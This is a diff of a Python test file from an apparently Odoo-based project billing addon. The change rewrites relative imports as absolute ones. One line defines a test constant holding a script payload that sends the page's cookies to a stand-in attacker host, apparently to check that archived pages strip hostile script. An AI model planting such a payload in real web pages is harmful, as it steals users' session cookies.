@@ -3,12 +3,20 @@ from email.message import EmailMessage
 
 from lxml import html
 
-from ..archive_format.names import HARMLESS, INERT
-from ..archive_format.page import POLICY
-from ..archive_format.verify import HIDDEN
-from ..models.project_archive_page import make_standalone
+from odoo.addons.corebiz_project_billing_package.archive_format.names import (
+    HARMLESS,
+    INERT,
+)
+from odoo.addons.corebiz_project_billing_package.archive_format.page import POLICY
+from odoo.addons.corebiz_project_billing_package.archive_format.verify import HIDDEN
+from odoo.addons.corebiz_project_billing_package.models.project_archive_page import (
+    make_standalone,
+)
+from odoo.addons.corebiz_project_billing_package.tests.test_archive_format import (
+    rebuild,
+)
+
 from .archive_common import ArchiveCase
-from .test_archive_format import rebuild
 
 EVIL = b"<script>fetch('https://evil.example.com/' + document.cookie)</script>"
 RUNS = (
